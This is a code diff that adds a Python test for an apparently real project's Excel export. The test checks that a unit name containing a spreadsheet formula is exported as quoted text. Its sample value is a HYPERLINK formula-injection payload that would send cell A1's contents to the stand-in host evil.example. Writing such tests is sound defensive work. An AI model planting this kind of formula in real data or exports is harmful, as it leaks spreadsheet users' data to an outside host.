@@ -69,3 +69,16 @@ def test_pdf_export_is_a_chinese_pdf(signed_in: Client) -> None:
 def _utf16_hex(text: str) -> bytes:
     return ("feff" + text.encode("utf-16-be").hex()).encode()
 
+
+
+def test_excel_export_quotes_a_unit_name_a_spreadsheet_would_run(signed_in: Client) -> None:
+    from policyhub.plan.models import Target
+    from policyhub.units.models import Unit
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    lead = Target.objects.order_by("pk").values_list("lead_unit", flat=True)[0]
+    Unit.objects.filter(pk=lead).update(name=evil)
+    response = signed_in.get("/plan/export.xlsx?as_of=2020-06-30")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    names = [row[10] for row in sheet.iter_rows(min_row=2) if evil in str(row[10].value)]
+    assert names and all(c.value == "'" + evil and c.data_type == "s" for c in names)
